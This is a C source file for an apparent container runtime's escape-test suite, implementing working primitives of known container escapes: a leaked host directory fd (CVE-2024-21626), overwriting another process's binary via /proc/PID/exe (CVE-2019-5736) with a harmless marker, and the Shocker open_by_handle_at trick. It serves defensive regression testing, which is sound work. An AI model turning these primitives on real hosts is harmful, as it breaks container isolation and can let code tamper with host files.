/* escape-probe: small attacks for tests/integration/escape.bats.  Built
   statically by the suite's setup (cc -static) so it runs in the busybox
   rootfs and on the host alike: every attack is first shown to work
   against an unprotected target, then to fail against envrun.

   escape-probe fds
       print "N TARGET" for each open fd (but the one listing the dir).
   escape-probe fd-escape FD FILE
       fchdir(FD), print getcwd() and the first line of FILE, relative to
       that directory (CVE-2024-21626: a leaked host directory fd).
   escape-probe exe-hold OUTDIR
       CVE-2019-5736: wait for another process in this pid namespace,
       hold an O_PATH fd on its /proc/PID/exe, report "held PID TARGET" in
       OUTDIR/held; then retry opening that fd for writing while it is busy
       (ETXTBSY) and append "ENVRUN-ESCAPE-MARKER" to it.  The outcome goes
       to OUTDIR/result: "wrote", or "open-failed ERRNO"/"write-failed
       ERRNO".
   escape-probe handle PATH
       name_to_handle_at(PATH) then open_by_handle_at() of that handle;
       prints "opened" or "failed ERRNO" (the Shocker escape's primitive). */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

static void
sleep_ms (long ms)
{
  struct timespec ts = { ms / 1000, (ms % 1000) * 1000000L };
  nanosleep (&ts, NULL);
}

static int
list_fds (void)
{
  DIR *d = opendir ("/proc/self/fd");
  struct dirent *de;

  if (d == NULL)
    return perror ("opendir /proc/self/fd"), 1;
  while ((de = readdir (d)))
    {
      char path[PATH_MAX], target[PATH_MAX];
      if (de->d_name[0] == '.' || atoi (de->d_name) == dirfd (d))
        continue;
      snprintf (path, sizeof path, "/proc/self/fd/%s", de->d_name);
      ssize_t n = readlink (path, target, sizeof target - 1);
      target[n < 0 ? 0 : n] = '\0';
      printf ("%s %s\n", de->d_name, target);
    }
  closedir (d);
  return 0;
}

static int
fd_escape (int fd, const char *file)
{
  char line[256], cwd[PATH_MAX];
  FILE *f;

  if (fchdir (fd) < 0)
    return perror ("fchdir"), 1;
  printf ("cwd %s\n", getcwd (cwd, sizeof cwd) ? cwd : "?");
  f = fopen (file, "r");
  if (f == NULL)
    return printf ("not-found %s\n", file), 1;
  if (fgets (line, sizeof line, f))
    fputs (line, stdout);
  fclose (f);
  return 0;
}

static int
write_file (const char *dir, const char *name, const char *text)
{
  char path[PATH_MAX], tmp[PATH_MAX];
  FILE *f;

  snprintf (path, sizeof path, "%s/%s", dir, name);
  snprintf (tmp, sizeof tmp, "%s/.%s.tmp", dir, name);
  f = fopen (tmp, "w");
  if (f == NULL)
    return -1;
  fputs (text, f);
  fclose (f);
  return rename (tmp, path);
}

/* The first pid but ours and our parents' whose exe we can open.  */
static int
hold_other_exe (int *pid_out, char *target, size_t tsize)
{
  DIR *d = opendir ("/proc");
  struct dirent *de;
  int fd = -1;

  if (d == NULL)
    return -1;
  while (fd < 0 && (de = readdir (d)))
    {
      int pid = atoi (de->d_name);
      char path[64];
      if (pid <= 0 || pid == getpid () || pid == getppid () || pid == 1)
        continue;
      snprintf (path, sizeof path, "/proc/%d/exe", pid);
      fd = open (path, O_PATH | O_CLOEXEC);
      if (fd < 0)
        continue;
      ssize_t n = readlink (path, target, tsize - 1);
      target[n < 0 ? 0 : n] = '\0';
      *pid_out = pid;
    }
  closedir (d);
  return fd;
}

static int
exe_hold (const char *outdir)
{
  char target[PATH_MAX], msg[PATH_MAX + 64], path[64];
  int pid = 0, fd = -1, wfd = -1, e = 0;

  /* Bounded waits: only so that a broken setup cannot hang the suite.  */
  for (int i = 0; i < 3000 && fd < 0; i++)
    {
      fd = hold_other_exe (&pid, target, sizeof target);
      if (fd < 0)
        sleep_ms (10);
    }
  if (fd < 0)
    return write_file (outdir, "result", "no-target\n"), 1;
  snprintf (msg, sizeof msg, "held %d %s\n", pid, target);
  write_file (outdir, "held", msg);
  snprintf (path, sizeof path, "/proc/self/fd/%d", fd);
  for (int i = 0; i < 3000; i++)
    {
      wfd = open (path, O_WRONLY | O_APPEND | O_CLOEXEC);
      e = errno;
      if (wfd >= 0 || e != ETXTBSY)
        break;
      sleep_ms (10);
    }
  if (wfd < 0)
    {
      snprintf (msg, sizeof msg, "open-failed %s\n", strerrorname_np (e));
      return write_file (outdir, "result", msg), 0;
    }
  static const char marker[] = "ENVRUN-ESCAPE-MARKER";
  if (write (wfd, marker, sizeof marker - 1) != (ssize_t) sizeof marker - 1)
    {
      snprintf (msg, sizeof msg, "write-failed %s\n",
                strerrorname_np (errno));
      return write_file (outdir, "result", msg), 0;
    }
  close (wfd);
  return write_file (outdir, "result", "wrote\n"), 0;
}

static int
handle_open (const char *path)
{
  struct
  {
    struct file_handle fh;
    unsigned char bytes[MAX_HANDLE_SZ];
  } h;
  int mount_id, mfd, fd;

  h.fh.handle_bytes = MAX_HANDLE_SZ;
  if (name_to_handle_at (AT_FDCWD, path, &h.fh, &mount_id, 0) < 0)
    return printf ("name_to_handle_at-failed %s\n",
                   strerrorname_np (errno)), 0;
  mfd = open ("/", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
  fd = open_by_handle_at (mfd, &h.fh, O_RDONLY | O_CLOEXEC);
  if (fd < 0)
    return printf ("failed %s\n", strerrorname_np (errno)), 0;
  printf ("opened\n");
  return 0;
}

int
main (int argc, char **argv)
{
  if (argc == 2 && strcmp (argv[1], "fds") == 0)
    return list_fds ();
  if (argc == 4 && strcmp (argv[1], "fd-escape") == 0)
    return fd_escape (atoi (argv[2]), argv[3]);
  if (argc == 3 && strcmp (argv[1], "exe-hold") == 0)
    return exe_hold (argv[2]);
  if (argc == 3 && strcmp (argv[1], "handle") == 0)
    return handle_open (argv[2]);
  fprintf (stderr, "usage: escape-probe fds | fd-escape FD FILE | "
                   "exe-hold OUTDIR | handle PATH\n");
  return 2;
}
